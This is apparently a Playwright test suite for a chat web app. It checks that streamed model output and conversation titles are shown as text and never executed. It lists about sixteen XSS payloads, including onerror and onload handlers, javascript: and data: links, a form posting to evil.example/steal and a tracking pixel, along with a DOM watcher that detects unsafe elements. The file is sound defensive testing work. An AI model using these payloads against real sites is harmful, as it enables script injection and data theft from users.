"""Model output cannot run code in the pages (CONTRACT §6), however it arrives.

Each payload would set `window.__pwned`, call `alert`, or reach `evil.example` if it ran; the
answer streams in small pieces split inside the tags, so every partial render is a chance for a
half-written tag to come alive. A MutationObserver, installed before the page's own scripts,
records any element that ever entered the live DOM with an `on*` attribute, a `javascript:` or
`data:` URL, or (inside model output) a tag that can load or run something.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.fake_upstream import FakeUpstream, stream
from tests.test_pages import (
    Pages,
    Tokens,
    answer_body,
    ask,
    stored_conversations,
    token_service,
    wait_for_answer,
)

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

    from tests.browser import PageLog
    from tests.conftest import Service

pytest_plugins = ["tests.browser"]
pytestmark = pytest.mark.browser

EVIL_HOST = "evil.example"
# What the chat page itself asks of its own server besides the page, its files and /chat.
OWN_API = ("/chat/conversations", "/usage")
PAYLOADS = [
    "<img src=x onerror=window.__pwned=1>",
    "<img src=x onerror=\"fetch('http://evil.example/img')\">",
    "<script>window.__pwned=2</script>",
    '<iframe srcdoc="<script>parent.__pwned=3</script>"></iframe>',
    "<svg onload=alert(4)>",
    "<svg><animate onbegin=window.__pwned=5 attributeName=x dur=1s>",
    "[link](javascript:window.__pwned=6)",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD03PC9zY3JpcHQ+)",
    '<a href="javascript:window.__pwned=8">click me</a>',
    '<form action="http://evil.example/steal"><button>Send</button></form>',
    '<button form=composer formaction="javascript:window.__pwned=9">Send</button>',
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "![tracking pixel](http://evil.example/x.png)",
    "<details open ontoggle=window.__pwned=10>",
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=11">',
]
# Where model output (or a title made of it) lands, and the tags that must never appear inside.
OUTPUT = ".message-body, .conversation-open, #conversation-title, #answer"
OWN_CONTROLS = ".code-bar > button.copy-code"  # the page's own button on each code block
FORBIDDEN_TAGS = ", ".join(
    ("script", "iframe", "frame", "object", "embed", "img", "svg", "math", "style", "link")
    + ("meta", "base", "form", "input", "button", "textarea", "select")
)
DOM_WATCH = """
window.__unsafeNodes = [];
(() => {
  const { OUTPUT, OWN_CONTROLS, FORBIDDEN } = SELECTORS;
  const URL_ATTRIBUTES = ["href", "src", "action", "formaction", "xlink:href", "srcdoc"];
  const describe = (node) => node.outerHTML.slice(0, 200);
  function inspect(node) {
    if (node.nodeType !== Node.ELEMENT_NODE) return;
    for (const element of [node, ...node.querySelectorAll("*")]) {
      for (const { name, value } of element.attributes) {
        const url = value.trim().toLowerCase();
        if (name.toLowerCase().startsWith("on")
            || (URL_ATTRIBUTES.includes(name.toLowerCase())
                && (url.startsWith("javascript:") || url.startsWith("data:")))) {
          window.__unsafeNodes.push(describe(element));
        }
      }
      const inOutput = element.parentElement?.closest(OUTPUT);
      if (inOutput && element.matches(FORBIDDEN) && !element.matches(OWN_CONTROLS)) {
        window.__unsafeNodes.push(describe(element));
      }
    }
  }
  new MutationObserver((records) => {
    for (const record of records) {
      if (record.type === "attributes") inspect(record.target);
      else record.addedNodes.forEach(inspect);
    }
  }).observe(document, { childList: true, subtree: true, attributes: true });
})();
""".replace(
    "SELECTORS",
    json.dumps({"OUTPUT": OUTPUT, "OWN_CONTROLS": OWN_CONTROLS, "FORBIDDEN": FORBIDDEN_TAGS}),
)


def split_inside(payload: str) -> list[str]:
    """Three pieces: the first cut three characters in (inside the tag), the second halfway."""
    middle = max(4, len(payload) // 2)
    return [payload[:3], payload[3:middle], payload[middle:]]


def pieces(layout: str) -> list[str]:
    """The payloads as stream pieces: each alone as a block, or inline in a sentence."""
    chunks: list[str] = []
    for number, payload in enumerate(PAYLOADS, 1):
        if layout == "inline":
            chunks += [f"Payload {number} is ", *split_inside(payload), " in a sentence.\n\n"]
        else:
            chunks += [*split_inside(payload), "\n\n"]
    return chunks


TOKENS = Tokens("xss")


@pytest.fixture(scope="module")
def service(
    upstream_server: FakeUpstream, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Service]:
    """A service whose clients are tokens, so that each test has a conversation list of its own."""
    yield from token_service(upstream_server, tmp_path_factory, TOKENS)


@pytest.fixture
def pages(browser: Browser, page_log: PageLog, service: Service) -> Iterator[Pages]:
    """`Pages` whose every document runs `DOM_WATCH` from its first byte."""
    opened = Pages(browser, page_log, init_scripts=[DOM_WATCH], tokens=TOKENS)
    yield opened
    opened.close()


def wait_until_finished(page: Page) -> None:
    answer = page.locator(".message--assistant").last
    expect(answer.locator(".regenerate")).to_be_visible(timeout=15_000)
    expect(page.locator(".message--assistant[aria-busy]")).to_have_count(0)


def assert_nothing_ran(page: Page, pages: Pages) -> None:
    """No payload ran, loaded, navigated or left a live element; nothing left 127.0.0.1."""
    page.wait_for_timeout(300)  # an onerror/onload fires after the failed load, asynchronously
    assert page.evaluate("typeof window.__pwned") == "undefined", page.evaluate("window.__pwned")
    unsafe = page.evaluate("window.__unsafeNodes")
    assert not unsafe, f"{len(unsafe)} unsafe elements entered the page, first: {unsafe[:5]}"
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    assert urlsplit(page.url).hostname == "127.0.0.1", page.url
    own = urlsplit(page.url)
    others = [
        url
        for url in pages.log.requests
        if urlsplit(url).path not in ("/", "/qa", "/chat", "/callChatGPT")
        and not urlsplit(url).path.startswith(("/static/", *OWN_API))
    ]
    assert not others, f"requests beyond the page's own (from {own.netloc}): {others}"
    assert not [url for url in pages.log.requests if EVIL_HOST in url]
    pages.assert_clean()


@pytest.mark.parametrize("layout", ["blocks", "inline"])
def test_model_output_split_inside_tags_cannot_run(
    pages: Pages, service: Service, upstream: FakeUpstream, layout: str
) -> None:
    chunks = pieces(layout)
    upstream.enqueue(stream(chunks=chunks, interval=0.02))
    page = pages.open(service.url)

    ask(page, "Repeat these strings exactly.")
    wait_until_finished(page)

    body = answer_body(page)
    for payload in PAYLOADS:
        if payload.startswith("<"):  # raw HTML is shown as the text the model wrote
            expect(body).to_contain_text(payload)
    hrefs = body.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    # A refused URL leaves a link without an href; every href left is a web address.
    assert all(href.startswith(("http://", "https://")) for href in hrefs if href), hrefs
    assert_nothing_ran(page, pages)

    page.reload()  # a stored answer is rendered again, in one go and as final
    expect(answer_body(page)).to_contain_text(PAYLOADS[0])
    assert_nothing_ran(page, pages)


def test_a_conversation_titled_with_html_shows_it_as_text(
    pages: Pages, service: Service, upstream: FakeUpstream
) -> None:
    title = "<img src=x onerror=window.__pwned=1>"
    page = pages.open(service.url)

    ask(page, title)
    wait_for_answer(page, upstream.reply_text)

    expect(page.locator("#conversation-list .conversation-open")).to_have_text([title])
    expect(page.locator("#conversation-title")).to_have_text(title)
    expect(page.locator(".message--user .message-body")).to_have_text([title])
    assert_nothing_ran(page, pages)

    page.reload()
    expect(page.locator("#conversation-list .conversation-open")).to_have_text([title])
    expect(page.locator("#conversation-title")).to_have_text(title)
    assert_nothing_ran(page, pages)

    # Renamed to more HTML in place, then read back by another browser from the server.
    renamed = '<iframe srcdoc="<script>parent.__pwned=2</script>"></iframe><b>bold?</b>'
    page.locator(".conversation-rename").click()
    page.locator(".conversation-title-input").fill(renamed)
    page.locator(".conversation-title-input").press("Enter")
    expect(page.locator("#conversation-list .conversation-open")).to_have_text([renamed])
    expect(page.locator("#conversation-title")).to_have_text(renamed)
    assert [c["title"] for c in stored_conversations(service, pages.token)] == [renamed]
    assert_nothing_ran(page, pages)

    elsewhere = pages.open(service.url)
    expect(elsewhere.locator("#conversation-list .conversation-open")).to_have_text([renamed])
    elsewhere.locator(".conversation-delete").click()
    expect(elsewhere.locator("#delete-dialog-text")).to_contain_text(renamed)
    elsewhere.locator("#delete-cancel").click()
    elsewhere.locator("#conversation-list .conversation-open").click()
    expect(elsewhere.locator("#conversation-title")).to_have_text(renamed)
    assert_nothing_ran(elsewhere, pages)


def test_the_qa_page_shows_the_payloads_as_text(
    pages: Pages, service: Service, upstream: FakeUpstream
) -> None:
    chunks = pieces("inline")
    upstream.enqueue(stream(chunks=chunks, interval=0.02))
    page = pages.open(f"{service.url}/qa")

    page.locator("#question").fill("<svg onload=window.__pwned=1>")
    page.locator("#question").press("Enter")

    answer = page.locator("#answer")
    expect(answer).to_have_text("".join(chunks).strip().replace("\n\n", " "), timeout=15_000)
    assert answer.evaluate("node => node.textContent") == "".join(chunks).strip()
    assert answer.evaluate("node => node.childElementCount") == 0
    expect(page.locator("#send-button")).to_be_enabled()
    assert_nothing_ran(page, pages)
